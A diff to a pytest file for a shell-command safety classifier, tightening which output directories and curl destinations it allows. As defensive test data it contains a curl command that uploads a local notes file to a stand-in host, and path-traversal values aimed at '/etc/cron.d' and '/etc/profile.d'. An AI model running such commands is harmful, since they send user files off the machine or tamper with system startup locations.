@@ -11,6 +11,7 @@ from pathlib import Path
 
 import pytest
 
+from netghost.redact import PathContext
 from netghost.shell.classify import classify
 from netghost.shell.classify._options import parse_options
 from netghost.shell.classify._parse import MAX_COMMAND_CHARS
@@ -69,18 +70,32 @@ def test_connect_to_grammar_fails_closed(value: str, ok: bool) -> None:
     [
         ("out", True),
         ("./audit", True),
-        ("/tmp/out", True),
-        ("/var/tmp/x/", True),
+        ("/home/u/session/reports", True),
+        ("/home/u/session", True),
+        ("/tmp/out", False),  # issue 28: the engine writes only inside the session's own directory
+        ("/var/tmp/x/", False),
         ("//etc/cron.d", False),
         ("/./etc/profile.d", False),
         ("/tmp/../etc", False),
         ("/tmpx", False),
         ("/home/u/reports", False),
+        ("/home/u/session/../x", False),
+        ("/home/u/sessionx", False),
         ("out/../../x", False),
     ],
 )
 def test_output_dirs_are_normalised_and_confined(value: str, ok: bool) -> None:
-    assert (compile_check("outdir")(value) is None) is ok
+    local = PathContext(cwd="/home/u/session", home="/home/u")
+    for command in (f"pcap-forensics a.cap --report-dir {value}", f"python3 pcap_forensics.py a.cap --out={value}"):
+        c = classify(command, local=local)
+        assert (c.verdict != "FORBIDDEN" and _tiers_allow(command, local)) is ok, c.reason
+
+
+def _tiers_allow(command: str, local: PathContext) -> bool:
+    """The tiers' verdict alone (the learned second opinion is tested elsewhere)."""
+    from netghost.shell.classify._classify import Context, _classify_builtin
+
+    return _classify_builtin(command, Context(local=local))[0].verdict == "SAFE"
 
 
 def _policy(tmp_path: Path, prefix: str, match: str) -> object:
@@ -109,9 +124,11 @@ def test_org_safe_prefix_never_relaxes_argument_hazards(tmp_path: Path, command:
 
 
 def test_org_rule_naming_a_path_or_wrapper_does_not_relax_inner_hazards(tmp_path: Path) -> None:
-    pol = _policy(tmp_path, '["/usr/bin/curl", "-s"]', "/usr/bin/curl -s https://a.example/")
-    assert classify("/usr/bin/curl -s https://a.example/", pol).verdict == "SAFE"  # type: ignore[arg-type]
-    assert classify("/usr/bin/curl -s -T /home/u/notes.txt https://a.example/", pol).verdict == "RISKY"  # type: ignore[arg-type]
+    pol = _policy(tmp_path, '["/usr/bin/curl", "-s"]', "/usr/bin/curl -s http://10.0.0.4/")
+    assert classify("/usr/bin/curl -s http://10.0.0.4/", pol).verdict == "SAFE"  # type: ignore[arg-type]
+    assert classify("/usr/bin/curl -s -T /home/u/notes.txt http://10.0.0.4/", pol).verdict == "RISKY"  # type: ignore[arg-type]
+    # issue 28: a destination outside the investigation is a hazard of the arguments too
+    assert classify("/usr/bin/curl -s https://a.example/", pol).verdict == "RISKY"  # type: ignore[arg-type]
     pol2 = _policy(tmp_path, '["timeout", "5"]', "timeout 5 mytool")
     assert classify("timeout 5 mytool", pol2).verdict == "SAFE"  # type: ignore[arg-type]
     assert classify("timeout 5 curl -K /tmp/cfg https://a.example/", pol2).verdict == "RISKY"  # type: ignore[arg-type]
@@ -126,7 +143,7 @@ def test_org_rule_still_relaxes_an_unknown_verb_or_program(tmp_path: Path) -> No
 
 
 def test_oversized_command_is_refused_before_parsing() -> None:
-    ok = "curl -s https://a.example/" + "a" * (MAX_COMMAND_CHARS - 40)
+    ok = "curl -s http://10.0.0.4/" + "a/" * ((MAX_COMMAND_CHARS - 40) // 2)
     assert classify(ok).verdict == "SAFE"
     c = classify("curl -s https://a.example/" + "a" * 300_000)
     assert c.verdict == "FORBIDDEN" and c.error == "forbidden_command" and str(MAX_COMMAND_CHARS) in c.reason
